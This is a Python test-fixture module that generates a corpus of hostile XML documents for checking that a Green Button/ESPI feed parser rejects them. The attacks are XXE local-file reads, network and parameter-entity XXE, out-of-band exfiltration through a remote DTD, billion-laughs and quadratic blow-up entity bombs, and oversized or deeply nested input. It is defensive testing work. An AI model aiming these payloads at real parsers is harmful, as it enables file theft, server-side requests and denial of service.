"""The XML attack corpus (issue 6): documents that try to read a file, reach the network or
exhaust memory or time when parsed. Each builder takes the path of a *canary file* (whose
unique content must never show up anywhere) and a *canary URL* (a loopback server that counts
hits: there must be none), so a test can prove both "no file read" and "no network".

:func:`corpus` returns every attack as an :class:`Attack`: the bytes, and a regular expression
the error message must match (``None`` for documents that are well-formed and must simply be
inert: XInclude and schemaLocation are never followed). Used by ``tests/test_xml_attacks.py``;
plain functions, so the corpus can also feed a fuzzer or a manual check.
"""
from __future__ import annotations

import codecs
from dataclasses import dataclass
from pathlib import Path

ATOM = "http://www.w3.org/2005/Atom"
ESPI = "http://naesb.org/espi"

#: what the error says for each kind of attack (see demo.espi.parse)
DOCTYPE = r"has a DOCTYPE; Green Button XML never needs one, so it is refused"
TOO_DEEP = r"nested more than 256 deep.*refused as too deep"
TOO_LARGE = r"longer than the parser's limit.*refused as too large"
UNDEFINED = r"Entity 'x' not defined"


@dataclass(frozen=True)
class Attack:
    name: str
    data: bytes
    problem: str | None      # regex the error message must match; None: parses, but nothing is followed
    big: bool = False        # many megabytes: worth a memory check

    def __repr__(self) -> str:  # short ids in pytest output
        return f"Attack({self.name})"


def _decl(encoding: str = "UTF-8") -> str:
    return f'<?xml version="1.0" encoding="{encoding}"?>\n'


def _body(text: str = "&x;") -> str:
    """A small Atom feed with ``text`` where a title would be and inside an ESPI payload."""
    return (f'<feed xmlns="{ATOM}"><id>urn:uuid:1</id><title>{text}</title>'
            f'<entry><id>urn:uuid:2</id><title>{text}</title><link rel="self" href="/x/UsagePoint/1"/>'
            f'<content><UsagePoint xmlns="{ESPI}"><ServiceCategory><kind>0</kind></ServiceCategory>'
            f"</UsagePoint></content></entry></feed>")


def _file_url(canary: Path) -> str:
    return Path(canary).resolve().as_uri()


# ---------------------------------------------------------------- entity tricks (all carry a DOCTYPE)


def file_xxe(canary: Path, url: str) -> str:
    """The classic: an external general entity naming a local file, used in the text."""
    return _decl() + f'<!DOCTYPE feed [<!ENTITY x SYSTEM "{_file_url(canary)}">]>\n' + _body()


def file_xxe_plain_path(canary: Path, url: str) -> str:
    """The same with a bare path instead of a file: URL (libxml2 accepts both)."""
    return _decl() + f'<!DOCTYPE feed [<!ENTITY x SYSTEM "{Path(canary).resolve()}">]>\n' + _body()


def network_xxe(canary: Path, url: str) -> str:
    """An external general entity over HTTP (a server-side request)."""
    return _decl() + f'<!DOCTYPE feed [<!ENTITY x SYSTEM "{url}/entity">]>\n' + _body()


def parameter_entity_xxe(canary: Path, url: str) -> str:
    """A parameter entity that loads a remote DTD fragment inside the internal subset."""
    return _decl() + f'<!DOCTYPE feed [<!ENTITY % p SYSTEM "{url}/p.dtd"> %p;]>\n' + _body("ok")


def parameter_entity_exfiltration(canary: Path, url: str) -> str:
    """Out-of-band exfiltration: read the file into %file;, then a remote DTD sends it away."""
    return _decl() + (f'<!DOCTYPE feed [<!ENTITY % file SYSTEM "{_file_url(canary)}">'
                      f'<!ENTITY % dtd SYSTEM "{url}/exfil.dtd"> %dtd; %send;]>\n') + _body("ok")


def parameter_entity_declares_xxe(canary: Path, url: str) -> str:
    """A parameter entity whose text declares the file entity (hides the SYSTEM from naive checks)."""
    return _decl() + (f"<!DOCTYPE feed [<!ENTITY % p \"<!ENTITY x SYSTEM '{_file_url(canary)}'>\"> %p;]>\n"
                      + _body())


def external_dtd_system(canary: Path, url: str) -> str:
    return _decl() + f'<!DOCTYPE feed SYSTEM "{url}/external.dtd">\n' + _body("ok")


def external_dtd_public(canary: Path, url: str) -> str:
    return _decl() + f'<!DOCTYPE feed PUBLIC "-//Evil//DTD Feed//EN" "{url}/public.dtd">\n' + _body("ok")


def external_dtd_file(canary: Path, url: str) -> str:
    """The canary file named as the DTD (a parse error would quote its first line)."""
    return _decl() + f'<!DOCTYPE feed SYSTEM "{_file_url(canary)}">\n' + _body("ok")


def bare_doctype(canary: Path, url: str) -> str:
    return _decl() + "<!DOCTYPE feed>\n" + _body("ok")


def billion_laughs(canary: Path, url: str, *, in_attribute: bool = False) -> str:
    """10 levels of 10 references: 10**9 "lol"s from a 1 kB document."""
    defs = ['<!ENTITY lol0 "lol">'] + [
        f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10)]
    body = (f'<feed xmlns="{ATOM}" xml:lang="&lol9;"><title>x</title></feed>' if in_attribute
            else _body("&lol9;"))
    return _decl() + "<!DOCTYPE feed [" + "".join(defs) + "]>\n" + body


def quadratic_blowup(canary: Path, url: str) -> str:
    """One 50 kB entity referenced 10,000 times: 500 MB of text from a 100 kB document, below
    the amplification factor's radar in old parsers."""
    return (_decl() + '<!DOCTYPE feed [<!ENTITY x "' + "a" * 50_000 + '">]>\n'
            + _body("&x;" * 10_000))


# ---------------------------------------------------------------- where the DOCTYPE hides


def doctype_after_comment(canary: Path, url: str) -> str:
    return _decl() + "<!-- a friendly comment -->\n" + file_xxe(canary, url).split("\n", 1)[1]


def doctype_after_pi(canary: Path, url: str) -> str:
    return (_decl() + '<?xml-stylesheet type="text/xsl" href="espi.xsl"?>\n'
            + file_xxe(canary, url).split("\n", 1)[1])


def doctype_after_long_comment(canary: Path, url: str) -> str:
    """Past every buffer: the DOCTYPE 300 kB in (the prolog guard's pieces are 256 bytes, the
    streaming reader's 128 kB)."""
    return _decl() + "<!--" + "x" * 300_000 + "-->\n" + file_xxe(canary, url).split("\n", 1)[1]


def doctype_without_declaration(canary: Path, url: str) -> str:
    return file_xxe(canary, url).split("\n", 1)[1]


# ---------------------------------------------------------------- limits, no DOCTYPE needed


def deep_nesting(canary: Path, url: str, depth: int = 300) -> str:
    return (f'<feed xmlns="{ATOM}"><entry><content><UsagePoint xmlns="{ESPI}">'
            + "<a>" * depth + "</a>" * depth + "</UsagePoint></content></entry></feed>")


def huge_text_node(canary: Path, url: str, size: int = 12 * 1024 * 1024) -> str:
    return f'<feed xmlns="{ATOM}"><title>' + "x" * size + "</title></feed>"


def huge_attribute(canary: Path, url: str, size: int = 12 * 1024 * 1024) -> str:
    return f'<feed xmlns="{ATOM}"><link rel="self" href="' + "x" * size + '"/></feed>'


def undeclared_entity(canary: Path, url: str) -> str:
    """An entity reference with nothing declaring it (must not be fetched or guessed)."""
    return _decl() + _body()


# ---------------------------------------------------------------- inert: well-formed, nothing followed


def xinclude(canary: Path, url: str) -> str:
    return (f'<feed xmlns="{ATOM}" xmlns:xi="http://www.w3.org/2001/XInclude"><title>t</title>'
            f'<xi:include href="{_file_url(canary)}" parse="text"/>'
            f'<xi:include href="{url}/xinclude"/></feed>')


def schema_location(canary: Path, url: str) -> str:
    return (f'<feed xmlns="{ATOM}" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
            f'xsi:schemaLocation="{ATOM} {url}/atom.xsd" xsi:noNamespaceSchemaLocation="{_file_url(canary)}">'
            "<title>t</title></feed>")


# ---------------------------------------------------------------- the corpus


def _utf16(text: str, codec: str) -> bytes:
    """``text`` in UTF-16 with a byte-order mark, its declaration saying so."""
    text = text.replace('encoding="UTF-8"', 'encoding="UTF-16"')
    bom = codecs.BOM_UTF16_LE if codec == "utf-16-le" else codecs.BOM_UTF16_BE
    return bom + text.encode(codec)


def corpus(canary: Path, url: str) -> list[Attack]:
    """Every attack, built for this canary file and canary URL (no trailing slash)."""
    url = url.rstrip("/")
    doctype_attacks = {
        "file XXE": file_xxe,
        "file XXE, bare path": file_xxe_plain_path,
        "network XXE": network_xxe,
        "parameter-entity XXE": parameter_entity_xxe,
        "parameter-entity exfiltration": parameter_entity_exfiltration,
        "parameter entity declaring XXE": parameter_entity_declares_xxe,
        "external DTD (SYSTEM)": external_dtd_system,
        "external DTD (PUBLIC)": external_dtd_public,
        "external DTD is the file": external_dtd_file,
        "bare DOCTYPE": bare_doctype,
        "billion laughs": billion_laughs,
        "billion laughs in an attribute": lambda c, u: billion_laughs(c, u, in_attribute=True),
        "quadratic blow-up": quadratic_blowup,
        "DOCTYPE after a comment": doctype_after_comment,
        "DOCTYPE after a processing instruction": doctype_after_pi,
        "DOCTYPE after a 300 kB comment": doctype_after_long_comment,
        "DOCTYPE without an XML declaration": doctype_without_declaration,
    }
    out = [Attack(name, build(canary, url).encode("utf-8"), DOCTYPE) for name, build in doctype_attacks.items()]
    out += [
        Attack("file XXE, UTF-8 with BOM", codecs.BOM_UTF8 + file_xxe(canary, url).encode("utf-8"), DOCTYPE),
        Attack("file XXE, UTF-16LE", _utf16(file_xxe(canary, url), "utf-16-le"), DOCTYPE),
        Attack("file XXE, UTF-16BE", _utf16(file_xxe(canary, url), "utf-16-be"), DOCTYPE),
        Attack("parameter-entity exfiltration, UTF-16LE",
               _utf16(parameter_entity_exfiltration(canary, url), "utf-16-le"), DOCTYPE),
        Attack("billion laughs, UTF-16BE", _utf16(billion_laughs(canary, url), "utf-16-be"), DOCTYPE),
        Attack("DOCTYPE after a comment, UTF-16LE", _utf16(doctype_after_comment(canary, url), "utf-16-le"),
               DOCTYPE),
        Attack("300-deep nesting", deep_nesting(canary, url).encode(), TOO_DEEP),
        Attack("12 MB text node", huge_text_node(canary, url).encode(), TOO_LARGE, big=True),
        Attack("12 MB attribute", huge_attribute(canary, url).encode(), TOO_LARGE, big=True),
        Attack("12 MB text node, UTF-16LE", _utf16(huge_text_node(canary, url), "utf-16-le"), TOO_LARGE, big=True),
        Attack("undeclared entity", undeclared_entity(canary, url).encode(), UNDEFINED),
        Attack("XInclude", xinclude(canary, url).encode(), None),
        Attack("schemaLocation", schema_location(canary, url).encode(), None),
    ]
    return out


def split_doctype_pieces(data: bytes, cut: int) -> list[bytes]:
    """``data`` in two pieces cut ``cut`` bytes into its ``<!DOCTYPE`` (for a streaming reader)."""
    at = data.index(b"<!DOCTYPE") + cut
    return [data[:at], data[at:]]
